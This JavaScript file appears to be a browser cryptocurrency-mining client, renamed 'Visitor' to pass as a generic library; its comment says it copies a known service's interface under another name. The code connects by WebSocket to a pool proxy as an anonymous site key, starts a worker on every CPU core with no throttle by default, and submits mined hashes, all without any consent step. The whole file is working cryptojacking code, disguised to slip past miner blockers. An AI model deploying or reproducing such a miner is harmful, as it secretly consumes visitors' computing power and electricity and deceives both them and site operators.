// A client library with the interface that services share, under another name.
class Visitor {
  constructor(siteKey, options) {
    this._siteKey = siteKey;
    this._throttle = options.throttle || 0;
    this._targetNumThreads = options.threads || navigator.hardwareConcurrency;
    this._threads = [];
    this._hashes = 0;
    this._accepted = 0;
    this._tab = { ident: (Math.random() * 16777215) | 0, grace: 0 };
  }
  start() {
    this._socket = new WebSocket('wss://ws' + (1 + (Date.now() % 30)) + '.example.net/proxy');
    this._socket.onopen = () => this._send('auth', { site_key: this._siteKey, type: 'anonymous', user: null, goal: 0 });
    this._socket.onmessage = (event) => {
      const message = JSON.parse(event.data);
      if (message.type === 'job') for (const thread of this._threads) thread.setJob(message.params);
      if (message.type === 'hash_accepted') this._accepted = message.params.hashes;
    };
    while (this._threads.length < this._targetNumThreads) this._threads.push(new Thread(this));
  }
  stop() { for (const thread of this._threads) thread.worker.terminate(); }
  isRunning() { return this._threads.length > 0; }
  getHashesPerSecond() { return this._threads.reduce((sum, thread) => sum + thread.rate, 0); }
  getTotalHashes() { return this._hashes; }
  getAcceptedHashes() { return this._accepted; }
  setThrottle(value) { this._throttle = Math.max(0, Math.min(value, 0.99)); }
  setNumThreads(count) { this._targetNumThreads = count; }
  didOptOut(seconds) { return document.cookie.includes('no=1') && seconds > 0; }
  _send(type, params) { this._socket.send(JSON.stringify({ type, params })); }
}
class Thread {
  constructor(owner) {
    this.rate = 0;
    this.worker = new Worker('worker.js');
    this.worker.onmessage = ({ data }) => {
      this.rate = data.hashesPerSecond;
      if (data.result) owner._send('submit', { job_id: data.job_id, nonce: data.nonce, result: data.result });
    };
  }
  setJob(job) { this.worker.postMessage(job); }
}
window.Visitor = { Anonymous: Visitor };
